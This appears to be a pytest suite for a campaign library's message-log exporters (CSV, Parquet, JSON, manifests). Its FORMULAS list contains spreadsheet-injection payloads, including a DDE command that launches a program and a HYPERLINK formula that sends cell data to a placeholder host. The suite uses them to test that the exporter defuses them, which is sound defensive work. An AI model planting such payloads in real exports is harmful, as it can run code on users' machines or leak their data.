"""Files: a message log that no spreadsheet runs, typed Parquet, and beside each what its numbers mean."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import sys
import tracemalloc
import uuid
from collections.abc import Sequence
from decimal import Decimal
from types import SimpleNamespace

import attrs
import pandas as pd
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from campaignkit import exports
from campaignkit.errors import InvalidRow, InvalidValue, MissingExtra
from campaignkit.exports import LOG_COLUMNS, log_rows, safe_text, write_csv
from campaignkit.logs import Log
from campaignkit.models import Click, Message, Status
from campaignkit.profiles import get_profile
from campaignkit.report import Report
from campaignkit.rows import MESSAGE_COLUMNS
from campaignkit.summary import summarize
from strategies import NOON, campaigns

OWN = get_profile("campaignkit")


def after(seconds):
    """Return the moment some seconds after noon."""
    return NOON + dt.timedelta(seconds=seconds)


LOG = Log(
    messages=(
        Message(status="delivered", variant="a", clicks=1),
        Message(status="failed", variant="b", carrier="twilio", error_code="30003", clicks=0),
    ),
    clicks=(Click(clicked_at=after(500), message_id="m1"),),
)


# --- the message log as CSV --------------------------------------------------------------------


def cells(messages):
    """Return the message log as a reader of CSV sees it: a mapping for each message."""
    file = io.StringIO(newline="")
    Report.of(messages).to_csv(file)
    file.seek(0)
    return list(csv.DictReader(file))


FULL = Message(
    status="failed",
    message_id="m1",
    campaign_id="spring",
    contact_id="c1",
    contact_name="Ann, with a comma",
    to="+33639980123",
    variant="a",
    list_id="l1",
    account_id="acme",
    sender="+12025550100",
    step=2,
    carrier="twilio",
    carrier_id="SM1",
    error_code="30003",
    segments=2,
    price=Decimal("0.000001"),
    currency="USD",
    created_at=NOON,
    sent_at=after(1),
    delivered_at=after(2),
    last_event_at=after(3),
    replies=1,
    stop_replies=0,
    clicks=3,
    opted_out=False,
    orders=1,
    revenue=Decimal("1e3"),
    assisted_orders=0,
    assisted_revenue=Decimal(0),
)


def test_a_row_of_the_log_by_hand():
    """A message has all its fields, plain numbers, ISO times, and what its code means."""
    assert cells([FULL]) == [
        {
            "message_id": "m1",
            "campaign_id": "spring",
            "variant": "a",
            "list_id": "l1",
            "contact_id": "c1",
            "contact_name": "Ann, with a comma",
            "to": "+33639980123",
            "account_id": "acme",
            "sender": "+12025550100",
            "step": "2",
            "status": "undelivered",
            "created_at": "2026-11-21T12:00:00+00:00",
            "sent_at": "2026-11-21T12:00:01+00:00",
            "delivered_at": "2026-11-21T12:00:02+00:00",
            "last_event_at": "2026-11-21T12:00:03+00:00",
            "carrier": "twilio",
            "carrier_id": "SM1",
            "error_code": "30003",
            "reason": "handset_absent",
            "bounce": "soft",
            "retryable": "true",
            "error_description": "phone off or out of coverage",
            "advice": "Try again in some hours; if repeated look up the line type.",
            "skip_reason": "",
            "segments": "2",
            "price": "0.000001",
            "currency": "USD",
            "replies": "1",
            "stop_replies": "0",
            "clicks": "3",
            "opted_out": "false",
            "orders": "1",
            "revenue": "1000",
            "assisted_orders": "0",
            "assisted_revenue": "0",
        }
    ]


def test_the_log_has_every_field_of_a_message():
    """No field of a message is left out of its log, and no column comes twice."""
    assert set(MESSAGE_COLUMNS) <= set(LOG_COLUMNS)
    assert len(LOG_COLUMNS) == len(set(LOG_COLUMNS))


def test_what_did_not_fail_is_not_explained():
    """A message that did not fail has no reason, and what is not known is empty."""
    row = cells([Message(status="delivered")])[0]

    assert {name for name, cell in row.items() if cell} == {"status"}


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://e.example/?"&A1)',
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "+1-202-555-0143",
    "+1 (202) 555-0143",
    "-1-1",
    "+cmd",
    "-cmd",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_run_begins_with_an_apostrophe(text):
    """A text that a spreadsheet would run, in any text field, gets an apostrophe before it and loses nothing."""
    for field in ("contact_name", "campaign_id", "variant", "sender", "error_code", "to", "contact_id"):
        kept = text.strip() if field == "error_code" else text
        assert cells([Message(status="failed", **{field: text})])[0][field] == f"'{kept}"


@pytest.mark.parametrize(
    "text",
    [
        "+33639980123",
        "+33 6 39 98 01 23",
        "-5",
        "-5.25",
        "5",
        "+5",
        "a=1",
        "a\r\n=1",
        ";=1",
        'a","b',
        '"',
        "'=1",
        "a\tb",
        "a\rb",
        "A" * 40_000,
        "ünï 春 🎉",
        " =1",
    ],
)
def test_everything_else_is_left_alone(text):
    """Telephone numbers, negative numbers, quotes, separators and line breaks read back as they were."""
    assert cells([Message(status="sent", contact_name=text)])[0]["contact_name"] == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("x\0y", "x\N{REPLACEMENT CHARACTER}y"),
        ("\ud800", "?"),
        ("=\ud800", "'=?"),
        ("\0=1", "\N{REPLACEMENT CHARACTER}=1"),
    ],
)
def test_what_no_reader_can_decode_is_replaced(text, cell):
    """NUL and lone surrogates are replaced, so that the file is UTF-8 that every reader takes."""
    assert cells([Message(status="sent", contact_name=text)])[0]["contact_name"] == cell


def test_the_header_runs_nothing():
    """The names of the columns are plain words."""
    assert [name for name in LOG_COLUMNS if safe_text(name) != name] == []


@given(st.lists(st.text(st.characters(exclude_categories=()), min_size=1), min_size=1, max_size=4))
def test_any_names_make_a_log_that_reads_back(names):
    """Whatever people are called, each has one row, which reads back as the text made safe, and encodes."""
    messages = [Message(status="sent", contact_name=f"x{name}") for name in names]

    found = [row["contact_name"] for row in cells(messages)]

    assert found == [safe_text(f"x{name}") for name in names]
    assert "".join(found).encode()


@given(st.text(st.characters(exclude_categories=())))
def test_a_safe_text_runs_nowhere(text):
    """A safe text begins with no sign of a formula, unless it is a number, and is safe when made safe again."""
    safe = safe_text(text)

    assert not safe.startswith(("=", "@", "\t", "\r", "\n")) or text == ""
    assert not safe.startswith(("+", "-")) or safe[1:2].isdigit()
    assert safe_text(safe) == safe


# --- files of any kind -------------------------------------------------------------------------

WRITERS = {
    "log.csv": Report.to_csv,
    "log.parquet": Report.to_parquet,
    "report.json": Report.to_json,
    "ünï.csv": Report.to_csv,
}
"""What writes a file, by the name of the file."""


@pytest.mark.parametrize("name", WRITERS)
@pytest.mark.parametrize("kind", [str, lambda path: path])
def test_a_manifest_stands_beside_each_file(tmp_path, name, kind):
    """Beside a file stands what its numbers mean, how many rows it has and the hash of its bytes."""
    path = tmp_path / name
    report = Report.of(LOG, profile="brevo")

    WRITERS[name](report, kind(path))

    manifest = json.loads((tmp_path / f"{name}.manifest.json").read_text("utf-8"))
    whole = name == "report.json"
    assert manifest["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    assert (manifest["file"], manifest["rows"]) == (name, 1 if whole else 2)
    assert manifest["columns"] == list(report.to_dict() if whole else LOG_COLUMNS)
    assert (manifest["profile"], manifest["bounce_policy"], manifest["as_of"]) == (
        "brevo",
        "brevo",
        "2026-11-21T12:08:20+00:00",
    )
    assert {name: manifest[name] for name in report.definitions()} == report.definitions()
    assert sorted(each.name for each in tmp_path.iterdir()) == sorted([name, f"{name}.manifest.json"])


@pytest.mark.parametrize("name", ["log.csv", "log.parquet"])
def test_a_failure_leaves_nothing_behind(tmp_path, name):
    """Where a row cannot be read there is no half file; a former file and its manifest stay as they were."""
    good, bad = Report.of(LOG), attrs.evolve(Report.of(LOG), messages=[*LOG, {"status": "sent", "segments": -1}])
    path = tmp_path / name

    with pytest.raises(InvalidRow, match=r"^row 2, column 'segments': -1 must be a whole number"):
        WRITERS[name](bad, path)
    assert list(tmp_path.iterdir()) == []

    WRITERS[name](good, path)
    former = {each: each.read_bytes() for each in tmp_path.iterdir()}
    with pytest.raises(InvalidRow):
        WRITERS[name](bad, path)

    assert {each: each.read_bytes() for each in tmp_path.iterdir()} == former


def test_a_manifest_that_cannot_be_written_takes_the_file_with_it(tmp_path, monkeypatch):
    """A file without its manifest is half of what was asked for: it does not appear."""
    monkeypatch.setattr(exports, "json_text", lambda _: 1 / 0)

    with pytest.raises(ZeroDivisionError):
        Report.of(LOG).to_csv(tmp_path / "log.csv")

    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("path", ["", ".", "..", "folder", "/"])
@pytest.mark.parametrize("name", ["log.csv", "log.parquet", "report.json"])
def test_a_folder_is_not_a_file(tmp_path, monkeypatch, name, path):
    """Where a folder stands there is one sentence that says what to give, and nothing else."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "folder").mkdir()

    with pytest.raises(InvalidValue, match=r"^'.+' is a folder: give the name of a file in it$"):
        WRITERS[name](Report.of(LOG), path)

    assert [each.name for each in tmp_path.iterdir()] == ["folder"]


@pytest.mark.parametrize("name", WRITERS)
def test_the_same_report_makes_the_same_bytes(tmp_path, name):
    """Nothing of a file depends on when or where it was written."""
    paths = [tmp_path / folder / name for folder in ("one", "two")]

    for path in paths:
        path.parent.mkdir()
        WRITERS[name](Report.of(LOG), path)

    assert paths[0].read_bytes() == paths[1].read_bytes()


def test_lines_of_the_log_end_as_the_rule_says(tmp_path):
    """Lines end in CR LF, as RFC 4180 has it, whatever the system; the text is UTF-8."""
    path = tmp_path / "log.csv"

    Report.of([Message(status="sent", contact_name="ü")]).to_csv(path)

    assert path.read_bytes().count(b"\r\n") == path.read_bytes().count(b"\n") == 2
    assert "ü".encode() in path.read_bytes()


def test_an_open_file_has_no_manifest(tmp_path):
    """Into an open file goes the log and nothing else, and it stays open."""
    with (tmp_path / "log.csv").open("w", newline="", encoding="utf-8") as file:
        Report.of(LOG).to_csv(file)

        assert not file.closed

    assert [path.name for path in tmp_path.iterdir()] == ["log.csv"]


VALUES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-3, 3),
    st.sampled_from(
        [*Status, 1.0, Decimal(1), Decimal("1.00"), NOON, NOON.astimezone(dt.timezone(dt.timedelta(hours=1)))]
    ),
    st.sampled_from(["a", "a b", "a,b", '"', "a\r\nb", "=1", "+1", "+", "-5", "Zoë", "sent", "\0", "\ud800", "1"]),
    st.text(max_size=3),
)


def by_hand(value):
    """Return a value as it stands in a cell, before it is quoted."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dt.datetime):
        return value.isoformat()
    return "" if value is None else safe_text(str(value))


@given(rows=st.lists(st.tuples(VALUES, VALUES), max_size=12), page=st.integers(1, 4))
def test_columns_are_written_as_their_cells_one_by_one(rows, page):
    """Equal values of a page are written once, and yet every line is what csv.writer makes of that row alone."""
    found, expected = io.StringIO(newline=""), io.StringIO(newline="")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(exports, "PAGE", page)
        write_csv(found, ["one", "two"], rows, {})

    writer = csv.writer(expected, lineterminator="\r\n")
    writer.writerows([("one", "two"), *(map(by_hand, row) for row in rows)])
    assert found.getvalue() == expected.getvalue()


def test_names_of_columns_are_safe_too():
    """A column that somebody named like a formula is a heading, and runs nowhere."""
    file = io.StringIO(newline="")

    write_csv(file, ["=1+1", "status"], [("x", "sent")], {})

    assert file.getvalue() == "'=1+1,status\r\nx,sent\r\n"


def test_json_is_what_is_returned(tmp_path):
    """With a path, the JSON that is returned also stands in the file."""
    text = Report.of(LOG).to_json(tmp_path / "report.json")

    assert (tmp_path / "report.json").read_bytes() == text.encode()
    assert text == Report.of(LOG).to_json()


class Endless(Sequence):
    """Many messages, each made when it is asked for."""

    def __init__(self, size):
        self.size = size

    def __len__(self):
        return self.size

    def __getitem__(self, place):
        if place >= self.size:
            raise IndexError
        return Message(status="delivered", message_id=f"m{place}", to="+12025550143")


def written(messages, path):
    """Return how much memory writing a log takes at most, in bytes."""
    report = attrs.evolve(Report.of([Message(status="sent")]), messages=messages)
    tracemalloc.start()
    try:
        WRITERS[f"log{path.suffix}"](report, path)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_a_log_is_streamed(tmp_path, monkeypatch, suffix):
    """Ten times the messages take no more memory: nothing is held but the rows of one batch."""
    monkeypatch.setattr(exports, "_BATCH", 500)
    written(Endless(10), tmp_path / f"first{suffix}")  # what is loaded on first use is not the log's

    few = written(Endless(1_000), tmp_path / f"few{suffix}")
    many = written(Endless(10_000), tmp_path / f"many{suffix}")

    assert many < few + 100_000
    assert Report.of(Endless(10)).to_csv(tmp_path / "ten.csv") is None


# --- the message log as Parquet ----------------------------------------------------------------


def read_back(messages, path, **of):
    """Return the Parquet file of a report as a table of Arrow."""
    Report.of(messages, **of).to_parquet(path)
    return pq.read_table(path)


def test_a_row_of_parquet_by_hand(tmp_path):
    """Text, whole numbers, flags, moments in UTC and exact money come back as what they are."""
    table = read_back([FULL], tmp_path / "log.parquet")

    row = table.to_pylist()[0]
    assert table.column_names == list(LOG_COLUMNS)
    assert (row["message_id"], row["status"], row["bounce"], row["reason"]) == (
        "m1",
        "undelivered",
        "soft",
        "handset_absent",
    )
    assert (row["step"], row["segments"], row["clicks"]) == (2, 2, 3)
    assert (row["retryable"], row["opted_out"]) == (True, False)
    assert (row["price"], row["revenue"], row["assisted_revenue"]) == (Decimal("0.000001"), Decimal(1000), Decimal(0))
    assert (row["created_at"], row["last_event_at"]) == (NOON, after(3))
    assert row["skip_reason"] is None


def test_types_do_not_depend_on_the_data(tmp_path):
    """A log without a single value, or without a row, has the same typed columns, so that files can be read as one."""
    nothing, empty = (read_back(each, tmp_path / f"{len(each)}.parquet") for each in ([Message(status="sent")], []))

    types = {field.name: str(field.type) for field in empty.schema}
    assert {field.name: str(field.type) for field in nothing.schema} == types
    assert (types["message_id"], types["status"]) == ("string", "string")
    assert {types[name] for name in LOG_COLUMNS if name.endswith("_at")} == {"timestamp[us, tz=UTC]"}
    assert {types[name] for name in ("price", "revenue", "assisted_revenue")} == {"decimal128(18, 6)"}
    assert {types[name] for name in ("retryable", "opted_out")} == {"bool"}
    assert {types[name] for name in ("step", "segments", "replies", "clicks", "orders")} == {"int64"}
    assert empty.num_rows == 0


def test_parquet_says_what_its_numbers_mean(tmp_path):
    """The schema's metadata holds the definitions that the manifest holds."""
    path = tmp_path / "log.parquet"
    report = Report.of(LOG, profile="dotdigital")

    report.to_parquet(path)

    said = json.loads(pq.read_schema(path).metadata[b"campaignkit"])
    manifest = json.loads((tmp_path / "log.parquet.manifest.json").read_text("utf-8"))
    assert {name: said[name] for name in report.definitions()} == report.definitions()
    assert said.items() <= manifest.items()
    assert set(manifest) - set(said) == {"file", "rows", "sha256"}


def test_moments_of_any_zone_are_utc(tmp_path):
    """A moment of any offset is the same moment in the file."""
    local = NOON.astimezone(dt.timezone(dt.timedelta(hours=-5)))

    assert read_back([Message(status="sent", sent_at=local)], tmp_path / "x.parquet").to_pylist()[0]["sent_at"] == NOON


def test_what_cannot_be_encoded_is_replaced_in_parquet(tmp_path):
    """A lone surrogate, which no file can hold, is a question mark; nothing gets an apostrophe."""
    table = read_back([Message(status="sent", contact_name="=\ud800ü\0")], tmp_path / "x.parquet")

    assert table.to_pylist()[0]["contact_name"] == "=?ü\0"


@given(campaigns(least=0))
def test_parquet_reads_back_as_the_messages(tmp_path_factory, rows):
    """Whatever was sent, each value of the file is the message's; its money adds up to the report's."""
    messages = [Message(**row) for row in rows]

    table = read_back(messages, tmp_path_factory.mktemp("law") / "log.parquet")

    found = [{name: row[name] for name in MESSAGE_COLUMNS} for row in table.to_pylist()]
    assert found == [{name: getattr(each, name) for name in MESSAGE_COLUMNS} for each in messages]
    cost = summarize(messages).cost or {}
    for currency in ("EUR", "USD"):
        priced = table.filter(pa.compute.equal(table["currency"], currency))["price"].to_pylist()
        assert sum(filter(None, priced)) == cost.get(currency, 0)


def test_several_batches_are_one_log(tmp_path, monkeypatch):
    """A log of many batches has every row once, in order."""
    monkeypatch.setattr(exports, "_BATCH", 7)

    table = read_back(Endless(20), tmp_path / "log.parquet")

    assert table["message_id"].to_pylist() == [f"m{place}" for place in range(20)]
    assert pq.ParquetFile(tmp_path / "log.parquet").num_row_groups == 3


@pytest.mark.parametrize("read", [pd.read_parquet, pl.read_parquet])
def test_others_read_it(tmp_path, read):
    """Both pandas and polars read the file."""
    Report.of(LOG).to_parquet(tmp_path / "log.parquet")

    assert list(read(tmp_path / "log.parquet")["status"]) == ["delivered", "undelivered"]


def test_without_pyarrow_it_says_how_to_get_it(tmp_path, monkeypatch):
    """Without pyarrow there is one sentence with the command, and no file."""
    monkeypatch.setitem(sys.modules, "pyarrow", None)

    with pytest.raises(MissingExtra, match=r'^writing Parquet needs pyarrow: pip install "campaignkit\[pyarrow\]"$'):
        Report.of(LOG).to_parquet(tmp_path / "log.parquet")

    assert list(tmp_path.iterdir()) == []


# --- rows of other kinds -----------------------------------------------------------------------

FORMS = {
    "mappings": list,
    "generator": iter,
    "objects": lambda rows: [SimpleNamespace(**row) for row in rows],
    "pandas": lambda rows: pd.DataFrame(rows, dtype=object),
    "polars": lambda rows: pl.DataFrame(rows, infer_schema_length=None),
    "lazy": lambda rows: pl.LazyFrame(rows, infer_schema_length=None),
}
"""The forms in which the same rows may come; each a function of a list of mappings."""


@pytest.mark.parametrize("form", FORMS)
@given(rows=campaigns())
def test_rows_of_any_kind_make_the_same_log(form, rows):
    """Mappings, objects and frames have the message log that the same messages have."""
    expected = list(log_rows([Message(**row) for row in rows], OWN))

    found = [tuple(row) for row in log_rows(FORMS[form](rows), OWN)]

    assert found == expected


def test_rows_by_their_own_names_and_words():
    """Columns called otherwise, a carrier's own words, its negative prices and times without a zone are read."""
    row = {
        "Sid": 7.0,
        "Status": "undelivered",
        "ErrorCode": 30003.0,
        "Price": -1,
        "currency": "usd",
        "SentDate": after(3600).replace(tzinfo=None),
        "contact_id": uuid.UUID(int=1),
        "to": 12025550143,
        "contact_name": float("nan"),
    }
    columns = {
        "message_id": "Sid",
        "status": "Status",
        "error_code": "ErrorCode",
        "price": "Price",
        "sent_at": "SentDate",
    }

    (found,) = log_rows([row], OWN, columns=columns, carrier="twilio", timezone="Europe/Paris")

    named = dict(zip(LOG_COLUMNS, found, strict=True))
    assert {name: value for name, value in named.items() if value is not None} == {
        "message_id": "7",
        "status": "undelivered",
        "carrier": "twilio",
        "error_code": "30003",
        "reason": "handset_absent",
        "bounce": "soft",
        "retryable": True,
        "error_description": "phone off or out of coverage",
        "advice": "Try again in some hours; if repeated look up the line type.",
        "price": Decimal(1),
        "currency": "USD",
        "sent_at": NOON,
        "contact_id": "00000000-0000-0000-0000-000000000001",
        "to": "12025550143",
    }


@pytest.mark.parametrize("form", ["mappings", "generator", "pandas", "polars", "lazy"])
def test_a_report_of_any_rows_writes_their_log(tmp_path, form):
    """A report of a frame or of mappings, read by other names and a carrier's words, writes what it counted."""
    rows = [{"State": word, "ErrorCode": code} for word, code in (("undelivered", "30003"), ("delivered", None))]
    columns = {"status": "State", "error_code": "ErrorCode"}

    report = Report.of(FORMS[form](rows), columns=columns, carrier="twilio")
    report.to_csv(tmp_path / "log.csv")
    report.to_parquet(tmp_path / "log.parquet")

    with (tmp_path / "log.csv").open(newline="", encoding="utf-8") as file:
        found = [(row["status"], row["carrier"], row["bounce"]) for row in csv.DictReader(file)]
    assert found == [("undelivered", "twilio", "soft"), ("delivered", "twilio", "")]
    assert pq.read_table(tmp_path / "log.parquet")["bounce"].to_pylist() == ["soft", None]
    assert report.summary.counts.soft == 1


def test_a_word_that_alone_tells_the_cause_is_explained():
    """A carrier's word without a code is explained as the summary explains it."""
    row = {"status": "Deleted", "carrier": "sinch"}

    (found,) = log_rows([row], OWN)

    failure = summarize([row]).failures[0].verdict
    named = dict(zip(LOG_COLUMNS, found, strict=True))
    assert (named["reason"], named["error_description"]) == (failure.reason, failure.description)
    assert named["error_code"] is None


@pytest.mark.parametrize(
    ("row", "sentence"),
    [
        ({"status": "sent", "sent_at": "yesterday"}, r"^row 0, column 'sent_at': 'yesterday' must be a moment"),
        ({"status": "sent", "sent_at": NOON.replace(tzinfo=None)}, r"^row 0, column 'sent_at': .* has no time zone"),
        ({"status": "sent", "price": 0.5}, r"^row 0, column 'price': 0.5 money is never a float"),
        ({"status": "sent", "opted_out": 7}, r"^row 0, column 'opted_out': 7 must be one of true"),
        ({"status": "snet"}, r"^status is 'snet': not a status we know; nearest: sent"),
        ({}, r"^row 0, column 'status': None is missing: every message needs one$"),
    ],
)
def test_a_value_that_is_not_what_its_column_holds(row, sentence):
    """A row that cannot be written is named with its column, value and rule."""
    with pytest.raises(InvalidValue, match=sentence):
        list(log_rows([row], OWN))
